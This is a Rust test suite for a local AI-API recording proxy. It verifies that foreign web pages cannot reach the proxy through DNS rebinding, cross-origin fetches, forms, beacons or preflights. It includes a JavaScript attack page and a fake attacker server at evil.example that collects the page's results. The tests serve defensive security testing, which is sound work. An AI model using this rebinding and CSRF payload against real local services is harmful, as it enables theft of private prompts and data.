//! A web page of somebody else's, open in a browser on the machine of the proxy: what it can reach.
//!
//! The requests are those that browsers send, byte for byte, and where a Chromium is installed it sends them itself.

use std::net::SocketAddr;
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};

use axum::body::Body;
use axum::extract::{Request, State};
use axum::response::{Html, IntoResponse as _, Response};
use http_body_util::BodyExt as _;
use retake::model::{Mode, Outcome};
use tokio::net::TcpListener;
use tokio::sync::Notify;

use super::{CHAT, IMAGE, chat, raw};
use crate::world::{PATIENCE, Seen, TOKEN, Upstream, World, json, request, settings, stored};

/// A prompt that no page may read.
const PROMPT: &str = "the secret plan";

/// A world with a recording of a chat and one of a picture with a link, and what a page may be after in it.
struct Treasure {
    world: World,
    upstream: Upstream,
    chat: String,
    media: String,
}

async fn treasure(origins: &[&str], hosts: &[&str]) -> Treasure {
    let upstream = Upstream::start(|seen: Seen| {
        let host =
            seen.headers.iter().find(|(name, _)| name == "host").map(|(_, host)| host.clone()).unwrap();
        match seen.target.as_str() {
            "/a.png" => Response::builder()
                .header("content-type", "image/png")
                .body(Body::from(&b"\x89PNG\r\n\x1a\n"[..]))
                .unwrap(),
            "/v1/images/generations" => json(&format!(r#"{{"data":[{{"url":"http://{host}/a.png"}}]}}"#)),
            _ => {
                let mut answer = chat(seen);
                for (name, value) in UPSTREAMS_OWN {
                    answer.headers_mut().append(name, value.parse().unwrap());
                }
                answer
            }
        }
    })
    .await;
    let strings = |all: &[&str]| all.iter().map(ToString::to_string).collect();
    let settings = retake::engine::Settings {
        origins: strings(origins),
        hosts: strings(hosts),
        ..settings(Mode::ReplayOrRecord, upstream.address)
    };
    let world = World::with(settings, tempfile::tempdir().unwrap()).await;
    let chat = CHAT.replace("Say hi", PROMPT);
    world.record("/openai/v1/chat/completions", &[], &chat).await;
    let mut events = world.engine.subscribe();
    world.post("/openai/v1/images/generations", &[], IMAGE).await;
    let media = world.recording(&stored(&mut events).await).media[0].id.to_string();
    Treasure { world, upstream, chat, media }
}

/// What an upstream says of its own origin, and what it says besides.
const UPSTREAMS_OWN: [(&str, &str); 13] = [
    ("access-control-allow-origin", "*"),
    ("access-control-allow-credentials", "true"),
    ("access-control-expose-headers", "x-request-id"),
    ("access-control-allow-private-network", "true"),
    ("cross-origin-resource-policy", "cross-origin"),
    ("cross-origin-opener-policy", "unsafe-none"),
    ("timing-allow-origin", "*"),
    ("clear-site-data", "\"*\""),
    ("strict-transport-security", "max-age=31536000; includeSubDomains"),
    ("alt-svc", "h3=\":443\"; ma=86400"),
    ("nel", "{\"report_to\":\"x\",\"max_age\":1}"),
    ("reporting-endpoints", "x=\"https://collector.example\""),
    ("x-request-id", "req_1"),
];

impl Treasure {
    /// Everything that there is to reach, as request lines and bodies.
    fn routes(&self) -> Vec<(&'static str, String, String)> {
        let unknown = CHAT.replace("Say hi", "something new");
        vec![
            ("POST", "/openai/v1/chat/completions".into(), self.chat.clone()),
            ("POST", "/v1/chat/completions".into(), self.chat.clone()),
            ("POST", "/@t1/openai/v1/chat/completions".into(), unknown.clone()),
            ("POST", "/openai/v1/chat/completions".into(), unknown),
            ("OPTIONS", "/openai/v1/chat/completions".into(), String::new()),
            ("GET", "/openai/v1/models".into(), String::new()),
            ("GET", "/nowhere/at/all".into(), String::new()),
            ("GET", format!("/__retake/media/{}", self.media), String::new()),
            ("GET", format!("/@t1/__retake/media/{}", self.media), String::new()),
            ("GET", "/__retake/health".into(), String::new()),
            ("GET", "/__retake/openapi.json".into(), String::new()),
            ("GET", "/__retake/recordings".into(), String::new()),
            ("PUT", "/__retake/mode".into(), "\"off\"".into()),
            ("GET", "/__retake/no/such/path".into(), String::new()),
            ("GET", "/__retake".into(), String::new()),
        ]
    }

    async fn sent(&self, (method, target, body): &(&str, String, String), headers: &str) -> String {
        let text = format!(
            "{method} {target} HTTP/1.1\r\n{headers}\r\nauthorization: Bearer {TOKEN}\r\n\
             content-length: {}\r\nconnection: close\r\n\r\n{body}",
            body.len()
        );
        raw(self.world.address, &text).await
    }
}

#[tokio::test]
async fn a_foreign_page_reaches_no_route_by_any_way() {
    let treasure = treasure(&["http://localhost:3000"], &[]).await;
    let (before, calls) = (treasure.upstream.calls(), treasure.world.engine.snapshot().calls.len());
    let port = treasure.world.address.port();
    let rows = treasure.world.engine.rows();
    let ways = [
        // Its own name was made to point here: nothing else betrays it.
        format!("host: evil.example:{port}"),
        format!(
            "host: evil.example:{port}\r\nsec-fetch-site: same-origin\r\nreferer: http://evil.example:{port}/"
        ),
        format!(
            "host: evil.example:{port}\r\norigin: http://evil.example:{port}\r\ncontent-type: text/plain"
        ),
        format!("host: localhost.evil.example:{port}"),
        format!("host: 0.0.0.0:{port}"),
        // A script, a form, a preflight.
        format!("host: localhost:{port}\r\norigin: http://evil.example\r\ncontent-type: text/plain"),
        format!("host: 127.0.0.1:{port}\r\norigin: null\r\ncontent-type: text/plain"),
        format!("host: 127.0.0.1:{port}\r\norigin: http://localhost:3001\r\nsec-fetch-site: same-site"),
        format!(
            "host: 127.0.0.1:{port}\r\norigin: http://evil.example\r\naccess-control-request-method: POST"
        ),
        // A picture, a link, a frame.
        format!(
            "host: 127.0.0.1:{port}\r\nsec-fetch-site: cross-site\r\nsec-fetch-mode: no-cors\r\nsec-fetch-dest: image"
        ),
        format!("host: localhost:{port}\r\nsec-fetch-site: same-site\r\nreferer: http://localhost:5173/"),
        format!(
            "host: [::1]:{port}\r\nsec-fetch-site: cross-site\r\nsec-fetch-mode: navigate\r\naccept: text/html"
        ),
        // A recorded page, which runs in the proxy's own origin.
        format!(
            "host: localhost:{port}\r\nsec-fetch-site: same-origin\r\nreferer: http://localhost:{port}/x"
        ),
    ];
    let mut tried = 0;
    for way in &ways {
        for route in treasure.routes() {
            let answer = treasure.sent(&route, way).await;
            assert!(answer.starts_with("HTTP/1.1 403 "), "{route:?} by {way}: {answer}");
            assert!(
                !answer.contains(PROMPT) && !answer.contains("access-control-"),
                "{route:?} by {way}: {answer}"
            );
            assert!(
                answer.contains("origins = [") || answer.contains("hosts = ["),
                "it says what to do: {answer}"
            );
            tried += 1;
        }
    }
    assert_eq!(tried, ways.len() * treasure.routes().len());
    assert_eq!(treasure.upstream.calls(), before, "nothing was forwarded");
    assert_eq!(treasure.world.engine.rows(), rows, "nothing was stored or counted as used");
    assert_eq!(treasure.world.engine.mode(), Mode::ReplayOrRecord);
    // People see who tried.
    let seen = treasure.world.engine.snapshot().calls;
    assert_eq!(seen.len() - calls, ways.len() * 8, "each but those of the control API stands in the list");
    let last = seen.back().unwrap();
    assert_eq!(
        (last.outcome, last.status, last.code.as_deref()),
        (Some(Outcome::Error), Some(403), Some("FOREIGN_ORIGIN"))
    );
    assert!(last.reason.as_deref().unwrap().contains("origins = ["), "{last:?}");
}

/// The error shape is that of the provider whose SDK asks.
#[tokio::test]
async fn the_refusal_is_in_the_dialects_shape() {
    let treasure = treasure(&[], &[]).await;
    let route = ("POST", "/openai/v1/chat/completions".to_owned(), "{}".to_owned());
    let answer = treasure.sent(&route, "host: retake.test:4010").await;
    let (head, body) = answer.split_once("\r\n\r\n").unwrap();
    assert!(head.contains("x-should-retry: false") && head.contains("x-retake-result: error"), "{head}");
    let body: serde_json::Value = serde_json::from_str(body).unwrap();
    assert_eq!(body["error"]["code"], "FOREIGN_HOST");
    assert!(body["error"]["message"].as_str().unwrap().contains("hosts = [\"retake.test\"]"), "{body}");
}

#[tokio::test]
async fn programs_and_listed_pages_go_on_working() {
    let treasure = treasure(&["http://localhost:3000"], &["retake.test"]).await;
    let port = treasure.world.address.port();
    let [replay, .., picture] = [0, 7].map(|at| treasure.routes()[at].clone());
    for who in [
        format!("host: localhost:{port}"),
        format!("host: 127.0.0.1:{port}"),
        format!("host: [::1]:{port}"),
        "host: localhost:8080".to_owned(),
        format!("host: host.docker.internal:{port}"),
        format!("host: host.containers.internal:{port}"),
        format!("host: ReTake.test:{port}"),
        format!("host: localhost:{port}\r\nsec-fetch-site: none\r\nsec-fetch-mode: navigate"),
        format!("host: localhost:{port}\r\nreferer: https://my.app/"),
    ] {
        for route in [&replay, &picture] {
            let answer = treasure.sent(route, &who).await;
            assert!(answer.starts_with("HTTP/1.1 200 "), "{route:?} by {who}: {answer}");
            assert!(!answer.contains("access-control-allow-origin"), "{answer}");
        }
    }
    for page in [
        format!("host: localhost:{port}\r\norigin: http://localhost:3000\r\nsec-fetch-site: same-site"),
        format!("host: localhost:{port}\r\nsec-fetch-site: same-site\r\nreferer: http://localhost:3000/app"),
    ] {
        for route in [&replay, &picture] {
            let answer = treasure.sent(route, &page).await;
            assert!(answer.starts_with("HTTP/1.1 200 "), "{route:?} by {page}: {answer}");
            assert!(answer.contains("access-control-allow-origin: http://localhost:3000\r\n"), "{answer}");
        }
        for route in treasure.routes().iter().skip(9) {
            let answer = treasure.sent(route, &page).await;
            assert!(
                answer.starts_with("HTTP/1.1 403 "),
                "not the control API: {route:?} by {page}: {answer}"
            );
        }
    }
    for target in ["/openai/v1/chat/completions", "/__retake/media/x"] {
        let preflight = format!(
            "host: localhost:{port}\r\norigin: http://localhost:3000\r\naccess-control-request-method: POST\r\n\
             access-control-request-headers: authorization\r\naccess-control-request-private-network: true"
        );
        let answer = treasure.sent(&("OPTIONS", target.into(), String::new()), &preflight).await;
        assert!(answer.starts_with("HTTP/1.1 204 "), "{answer}");
        for line in [
            "allow-origin: http://localhost:3000",
            "allow-headers: authorization",
            "allow-private-network: true",
        ] {
            assert!(answer.contains(&format!("access-control-{line}\r\n")), "{line} in {answer}");
        }
    }
}

/// Live, recorded and replayed: what an upstream says of its own origin is not said of the proxy's.
#[tokio::test]
async fn what_speaks_for_the_upstreams_origin_is_not_passed_on() {
    let treasure = treasure(&["http://localhost:3000"], &[]).await;
    for (mode, result) in [("off", "live"), ("record", "record"), ("replay-or-error", "replay")] {
        for origin in [None, Some("http://localhost:3000")] {
            let mut headers = vec![("x-retake-mode", mode)];
            headers.extend(origin.map(|origin| ("origin", origin)));
            let reply =
                treasure.world.send(&request("/openai/v1/chat/completions", &headers, &treasure.chat)).await;
            assert_eq!(reply.headers.text("x-retake-result"), Some(result));
            assert_eq!(reply.headers.text("x-request-id"), Some("req_1"), "others stay");
            for (name, value) in UPSTREAMS_OWN.iter().filter(|(name, _)| *name != "x-request-id") {
                assert_ne!(reply.headers.text(name), Some(*value), "{name} in {mode}");
            }
            assert_eq!(reply.headers.text("access-control-allow-origin"), origin);
        }
    }
}

/// A recorded page would run in the proxy's origin, and read from there what else is recorded.
#[tokio::test]
async fn a_recorded_page_that_somebody_opens_can_do_nothing() {
    let upstream = Upstream::start(|_| {
        let mut answer = Html("<script>fetch('/openai/v1/files')</script>").into_response();
        answer.headers_mut().insert("content-security-policy", "default-src *".parse().unwrap());
        answer
    })
    .await;
    let world = World::new(Mode::ReplayOrLive, upstream.address).await;
    let reply =
        world.get("/openai/v1/page", &[("accept", "text/html,application/xhtml+xml,*/*;q=0.8")]).await;
    let policies: Vec<_> = reply
        .headers
        .iter()
        .filter(|(name, _)| *name == "content-security-policy")
        .map(|(_, value)| value.clone())
        .collect();
    assert_eq!(policies, ["default-src *", "sandbox"], "beside the recorded one");
    let reply = world.get("/openai/v1/page", &[]).await;
    assert_eq!(
        reply.headers.text("content-security-policy"),
        Some("default-src *"),
        "a program gets what was recorded"
    );
}

// What a real browser does.

/// An attacker's server. Under its name it serves the page and takes the page's report; all else it passes on to the proxy
/// with the headers as the browser sent them, which is what a browser sees when the name was made to point there.
#[derive(Clone)]
struct Evil {
    page: Arc<str>,
    proxy: SocketAddr,
    report: Arc<Mutex<Option<String>>>,
    told: Arc<Notify>,
}

async fn evil(State(evil): State<Evil>, request: Request) -> Response {
    let (head, body) = request.into_parts();
    let body = body.collect().await.unwrap().to_bytes();
    match head.uri.path() {
        "/" => Html(evil.page.to_string()).into_response(),
        "/report" => {
            *evil.report.lock().unwrap() = Some(String::from_utf8_lossy(&body).into_owned());
            evil.told.notify_one();
            ().into_response()
        }
        path => {
            let mut lines = String::new();
            for (name, value) in head.headers.iter().filter(|(name, _)| *name != "connection") {
                lines.extend([name.as_str(), ": ", value.to_str().unwrap(), "\r\n"]);
            }
            let text = format!("{} {path} HTTP/1.1\r\n{lines}connection: close\r\n\r\n", head.method);
            let answer = raw(evil.proxy, &(text + &String::from_utf8_lossy(&body))).await;
            let (head, body) = answer.split_once("\r\n\r\n").unwrap();
            let status: u16 = head.split(' ').nth(1).unwrap().parse().unwrap();
            (http::StatusCode::from_u16(status).unwrap(), body.to_owned()).into_response()
        }
    }
}

/// Everything that a page can try, and what came of it, a line each.
fn attack(own: &str, proxy: &str, chat: &str, media: &str) -> String {
    format!(
        r"<!doctype html><script>
        const said = [];
        const tried = (what, promise) => promise.then(r => said.push(what + ': ' + r), e => said.push(what + ': blocked'));
        const read = (url, init) => fetch(url, init).then(async r => r.type == 'opaque' ? 'opaque' : r.status + ' ' + await r.text());
        const element = (tag, url) => new Promise((yes, no) => {{
            const e = document.createElement(tag);
            e.onload = () => yes('loaded'); e.onerror = () => no();
            e.src = url; document.documentElement.append(e);
        }});
        const body = {chat:?};
        (async () => {{
            await tried('rebound replay', read('{own}/openai/v1/chat/completions', {{ method: 'POST', body }}));
            await tried('rebound miss', read('{own}/openai/v1/chat/completions', {{ method: 'POST', body: body + ' ' }}));
            await tried('rebound picture', read('{own}/__retake/media/{media}'));
            await tried('rebound control', read('{own}/__retake/health'));
            for (const proxy of {proxy:?}.split(' ')) {{
                await tried('simple post', read(proxy + '/openai/v1/chat/completions', {{ method: 'POST', body: body + proxy }}));
                await tried('blind post', read(proxy + '/openai/v1/chat/completions', {{ method: 'POST', mode: 'no-cors', body: body + proxy }}));
                await tried('json post', read(proxy + '/openai/v1/chat/completions', {{ method: 'POST', body, headers: {{ 'content-type': 'application/json' }} }}));
                await tried('beacon', Promise.resolve(navigator.sendBeacon(proxy + '/openai/v1/beacon', body)));
                await tried('image', element('img', proxy + '/__retake/media/{media}'));
                await tried('script', element('script', proxy + '/openai/v1/models'));
            }}
            const form = document.createElement('form');
            document.documentElement.insertAdjacentHTML('beforeend', '<iframe name=frame></iframe>');
            form.method = 'post'; form.enctype = 'text/plain'; form.target = 'frame';
            form.action = {proxy:?}.split(' ')[0] + '/openai/v1/form';
            document.documentElement.append(form);
            const frame = document.querySelector('iframe');
            await tried('form', new Promise(yes => {{ frame.onload = () => yes('answered'); form.submit(); }}));
            await fetch('{own}/report', {{ method: 'POST', body: said.join('\n') }});
        }})();
        </script>"
    )
}

/// A Chromium, if there is one.
fn browser() -> Option<PathBuf> {
    let names = ["chromium-headless-shell", "chromium", "chromium-browser", "google-chrome"];
    let paths: Vec<_> = std::env::split_paths(&std::env::var_os("PATH")?).collect();
    names.iter().flat_map(|name| paths.iter().map(move |path| path.join(name))).find(|path| path.is_file())
}

/// A browser that ends with the test.
struct Running(Child);

impl Drop for Running {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_real_browser_on_a_hostile_page_gets_nothing() {
    let Some(program) = browser() else {
        eprintln!("no Chromium is installed: what one does is not tested");
        return;
    };
    let treasure = treasure(&["http://localhost:3000"], &[]).await;
    let (before, calls) = (treasure.upstream.calls(), treasure.world.engine.snapshot().calls.len());
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let own = format!("http://evil.example:{}", listener.local_addr().unwrap().port());
    let port = treasure.world.address.port();
    let proxies = format!("http://127.0.0.1:{port} http://localhost:{port} http://0.0.0.0:{port}");
    let page = attack(&own, &proxies, &treasure.chat, &treasure.media).into();
    let server = Evil { page, proxy: treasure.world.address, report: Arc::default(), told: Arc::default() };
    let app = axum::Router::new().fallback(evil).with_state(server.clone());
    let serving = tokio::spawn(axum::serve(listener, app).into_future());
    let profile = tempfile::tempdir().unwrap();
    let mut command = Command::new(program);
    command.args(["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--no-proxy-server"]);
    command.args(["--remote-debugging-port=0", "--host-resolver-rules=MAP evil.example 127.0.0.1"]);
    command.arg(format!("--user-data-dir={}", profile.path().display())).arg(&own);
    command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
    let running = Running(command.spawn().unwrap());
    tokio::time::timeout(PATIENCE * 3, server.told.notified()).await.expect("the page came to its end");
    drop(running);
    serving.abort();
    let report = server.report.lock().unwrap().clone().unwrap();
    assert_eq!(
        report.lines().filter(|line| line.starts_with("rebound") && line.contains(": 403 ")).count(),
        4,
        "{report}"
    );
    for (what, outcome, times) in [
        ("simple post", "blocked", 3),
        ("json post", "blocked", 3),
        ("image", "blocked", 3),
        ("script", "blocked", 3),
    ] {
        let line = format!("{what}: {outcome}");
        assert_eq!(report.lines().filter(|found| **found == line).count(), times, "{line} in {report}");
    }
    assert!(!report.contains(PROMPT), "{report}");
    assert_eq!(treasure.upstream.calls(), before, "nothing was forwarded: {report}");
    let tried = treasure.world.engine.snapshot().calls.len() - calls;
    assert!(tried > 10, "the browser did send what it could: {tried} {report}");
}
